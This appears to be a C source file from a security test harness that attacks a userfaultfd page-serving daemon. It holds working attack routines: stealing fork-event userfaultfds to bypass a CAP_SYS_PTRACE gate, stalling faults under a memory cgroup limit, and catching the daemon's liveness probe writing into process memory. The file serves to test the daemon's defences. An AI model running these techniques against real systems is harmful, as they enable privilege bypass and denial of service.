/* Attacks on the userfaultfd itself: keeping a duplicate of the uffd the
 * daemon serves, faults the daemon cannot fill (a memory cgroup at its
 * limit), and the daemon's liveness probe writing into our memory. */
#include "atk.h"

#include <errno.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include <refpage.h>

#define P TN_PAGE

struct thief {
	int uffd;
	atomic_int stop;
	int stolen[256];
	atomic_int nstolen;
	atomic_ulong own_events, grandchild_forks, other;
};

/* Read every uffd we hold: our own (shared with the daemon) and the
 * children's we took from it. */
static void *thief_main(void *arg)
{
	struct thief *t = arg;
	struct uffd_msg msgs[16];

	while (!atomic_load(&t->stop)) {
		struct pollfd pf[257];
		int n = atomic_load(&t->nstolen);
		pf[0] = (struct pollfd){ .fd = t->uffd, .events = POLLIN };
		for (int i = 0; i < n; i++)
			pf[i + 1] = (struct pollfd){ .fd = t->stolen[i], .events = POLLIN };
		if (poll(pf, (nfds_t)n + 1, 5) <= 0)
			continue;
		for (int i = 0; i <= n; i++) {
			if (!(pf[i].revents & POLLIN))
				continue;
			ssize_t got = read(pf[i].fd, msgs, sizeof(msgs));
			for (ssize_t k = 0; got > 0 && k < got / (ssize_t)sizeof(msgs[0]); k++) {
				const struct uffd_msg *m = &msgs[k];
				if (m->event != UFFD_EVENT_FORK) {
					atomic_fetch_add(&t->other, 1);
					continue;
				}
				if (i == 0) {
					int s = atomic_load(&t->nstolen);
					atomic_fetch_add(&t->own_events, 1);
					if (s < 256) {
						t->stolen[s] = (int)m->arg.fork.ufd;
						atomic_store(&t->nstolen, s + 1);
					} else {
						close((int)m->arg.fork.ufd);
					}
				} else {
					/* A fork event of a child whose uffd we hold: a
					 * fork-event uffd made without CAP_SYS_PTRACE. */
					atomic_fetch_add(&t->grandchild_forks, 1);
					close((int)m->arg.fork.ufd);
				}
			}
		}
	}
	return NULL;
}

/* fork-gate: HELLO, keeping a duplicate of the uffd the daemon gets (the
 * library never would), map a range, then fork forks= children, each of
 * which forks a grandchild. A thread reads our duplicate all along: a
 * UFFD_EVENT_FORK it wins hands it the child's uffd (with the fork
 * feature the daemon was granted by CAP_SYS_PTRACE), and the grandchild's
 * fork then shows up on that stolen uffd. */
int atk_fork_gate(const char *sock)
{
	long forks = (long)tn_opt_ll("forks", 40);
	struct atk_conn c;
	struct thief t = { 0 };
	pthread_t th;
	int r = atk_hello(&c, sock, 5, 1);

	if (r < 0) {
		atk_out("hello_error=%s", strerror(-r));
		return 1;
	}
	long id = atk_fill(&c, 0x47);
	uint8_t *area = atk_anon(16 * P);
	if (id <= 0 || area == MAP_FAILED ||
	    (r = atk_map(&c, (uintptr_t)area, 16 * P, (uint32_t)id)) < 0) {
		atk_out("setup=failed");
		return 1;
	}
	t.uffd = c.uffd;
	pthread_create(&th, NULL, thief_main, &t);
	unsigned long hung = 0;
	for (long i = 0; i < forks; i++) {
		pid_t pid = fork();
		if (pid == 0) {
			alarm(10);
			tn_sleep(0.05);
			pid_t g = fork();
			if (g == 0)
				_exit(0);
			if (g > 0)
				waitpid(g, NULL, 0);
			_exit(0);
		}
		if (pid < 0)
			break;
		int st;
		waitpid(pid, &st, 0);
		hung += WIFSIGNALED(st);
	}
	tn_sleep(0.2);
	atomic_store(&t.stop, 1);
	pthread_join(th, NULL);
	int stolen = atomic_load(&t.nstolen);
	unsigned long gc = atomic_load(&t.grandchild_forks);
	atk_out("forks=%ld stolen_child_uffds=%d grandchild_fork_events=%lu other_events=%lu "
		"children_hung=%lu",
		forks, stolen, gc, atomic_load(&t.other), hung);
	atk_finding("fork_gate_bypass=%d stolen=%d/%ld grandchild_fork_events=%lu", stolen > 0,
		    stolen, forks, gc);
	for (int i = 0; i < stolen; i++)
		close(t.stolen[i]);
	atk_close(&c);
	return 0;
}

struct faulter {
	uint8_t *p;
	size_t pages;
	atomic_ulong *touched;
	pthread_barrier_t *go;
};

static void *fault_thread(void *arg)
{
	struct faulter *f = arg;

	pthread_barrier_wait(f->go);
	for (size_t i = 0; i < f->pages; i++) {
		(void)*(volatile uint8_t *)(f->p + i * P);
		atomic_fetch_add(f->touched, 1);
	}
	return NULL;
}

/* enomem: threads= threads each faulting its share of mb= MiB of refpages,
 * once the driver has put us into a memory cgroup whose limit makes the
 * daemon's UFFDIO_COPY fail with ENOMEM (the OOM killer disabled there).
 * With wait_go=1 we print "ready" and wait for SIGUSR1 first. The faults
 * that cannot be filled wait; after duration= we exit. */
int atk_enomem(const char *sock)
{
	size_t len = (size_t)tn_opt_ll("mb", 256) << 20;
	long threads = (long)tn_opt_ll("threads", 4);
	int wait_go = (int)tn_opt_ll("wait_go", 1);
	double dur = tn_opt_double("duration", 4);
	rp_client *c;
	uint32_t id;
	pthread_t th[16];
	struct faulter f[16];
	pthread_barrier_t go;
	atomic_ulong touched = 0;
	sigset_t set;
	int r = rp_connect_opts(sock, RP_CONNECT_UFFD, &c);

	if (threads < 1 || threads > 16)
		return 2;
	if (r < 0 || (r = rp_template_fill(c, 0xE7, &id)) < 0) {
		atk_out("setup=failed error=%s", strerror(-r));
		return 1;
	}
	uint8_t *p = rp_map(c, NULL, len, PROT_READ | PROT_WRITE, 0, id);
	if (p == MAP_FAILED)
		return 1;
	sigemptyset(&set);
	sigaddset(&set, SIGUSR1);
	pthread_sigmask(SIG_BLOCK, &set, NULL);
	pthread_barrier_init(&go, NULL, (unsigned)threads + 1);
	size_t share = len / P / (size_t)threads;
	for (long t = 0; t < threads; t++) {
		f[t] = (struct faulter){ p + (size_t)t * share * P, share, &touched, &go };
		pthread_create(&th[t], NULL, fault_thread, &f[t]);
	}
	if (wait_go) {
		int sig;
		printf("ready\n");
		fflush(stdout);
		sigwait(&set, &sig);
	}
	double t0 = tn_now();
	pthread_barrier_wait(&go);
	unsigned long last = 0;
	double stuck_since = 0;
	while (tn_now() - t0 < dur) {
		tn_sleep(0.05);
		unsigned long now = atomic_load(&touched);
		if (now != last) {
			last = now;
			stuck_since = 0;
		} else if (!stuck_since) {
			stuck_since = tn_now();
		}
	}
	unsigned long total = atomic_load(&touched);
	atk_out("mb=%zu threads=%ld pages_touched=%lu of %zu stalled_s=%.1f", len >> 20, threads,
		total, len / P, stuck_since ? tn_now() - stuck_since : 0.0);
	fflush(stdout);
	/* Threads waiting on faults nobody can fill: exit_group takes them. */
	_exit(0);
}

/* Map one page at exactly addr (MAP_FIXED_NOREPLACE); NULL if we cannot. */
static uint8_t *page_at(uint64_t addr, size_t len)
{
	void *p = mmap((void *)(uintptr_t)addr, len, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);

	if (p == MAP_FAILED || (uintptr_t)p != addr) {
		if (p != MAP_FAILED)
			munmap(p, len);
		return NULL;
	}
	return p;
}

#define PROBE_LOW 0x10000ull
#define PROBE_HIGH (0x7fffffffe000ull - P)
#define TPL 0xB3

/* 1 when the page does not read as the template (its first byte in *b). */
static int spoiled(const uint8_t *pg, uint8_t *b)
{
	*b = pg[0];
	for (size_t i = 0; i < P; i++)
		if (pg[i] != TPL) {
			*b = pg[i];
			return 1;
		}
	return 0;
}

/* One variant in a process of its own (a fresh address space: the daemon
 * probes it 0.25 s after HELLO, then at doubling intervals). Exit 0: the
 * template was read; 1: something else (the probe's zeros); 77: cannot
 * set up here. */
static int probe_variant(const char *sock, int grown, double wait)
{
	struct atk_conn c;
	uint8_t b;

	if (atk_hello(&c, sock, 5, 0) < 0)
		return 2;
	long id = atk_fill(&c, TPL);
	if (id <= 0)
		return 2;
	if (grown) {
		/* A range ending at the low probe address, then grown in place
		 * over it by mremap (no event): the table does not have it, the
		 * probe goes there, and the VMA is registered. */
		uint8_t *a = page_at(PROBE_LOW - P, P);
		if (!a || atk_map(&c, (uintptr_t)a, P, (uint32_t)id) < 0)
			return ATK_SKIP;
		if (mremap(a, P, 2 * P, 0) != a)
			return ATK_SKIP;
		tn_sleep(wait);
		return spoiled((const uint8_t *)(uintptr_t)PROBE_LOW, &b) ? 1 : 0;
	}
	/* Ranges at both probe addresses: the probe goes to the high one. */
	uint8_t *lo = page_at(PROBE_LOW, P), *hi = page_at(PROBE_HIGH, P);
	if (!lo || !hi || atk_map(&c, PROBE_LOW, P, (uint32_t)id) < 0 ||
	    atk_map(&c, PROBE_HIGH, P, (uint32_t)id) < 0)
		return ATK_SKIP;
	tn_sleep(wait);
	return spoiled(hi, &b) ? 1 : 0;
}

/* probe-write: see probe_variant; both variants, each in a child. */
int atk_probe_write(const char *sock)
{
	double wait = tn_opt_double("wait", 1.5);
	int res[2];

	for (int v = 0; v < 2; v++) {
		pid_t pid = fork();
		if (pid == 0)
			_exit(probe_variant(sock, v, wait));
		int st = 0;
		waitpid(pid, &st, 0);
		res[v] = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
	}
	static const char *const what[] = { "high (ranges at 0x10000 and 0x7fffffffd000)",
					    "grown (a range grown over 0x10000 by mremap)" };
	for (int v = 0; v < 2; v++)
		atk_out("variant=%d result=%s (%s)", v,
			res[v] == 0          ? "template"
			: res[v] == 1        ? "NOT the template"
			: res[v] == ATK_SKIP ? "cannot set up"
					     : "failed",
			what[v]);
	if (res[0] == ATK_SKIP && res[1] == ATK_SKIP)
		return ATK_SKIP;
	atk_finding("probe_write=%d high=%s grown=%s", res[0] == 1 || res[1] == 1,
		    res[0] == 1   ? "spoiled"
		    : res[0] == 0 ? "ok"
				  : "n/a",
		    res[1] == 1   ? "spoiled"
		    : res[1] == 0 ? "ok"
				  : "n/a");
	return 0;
}
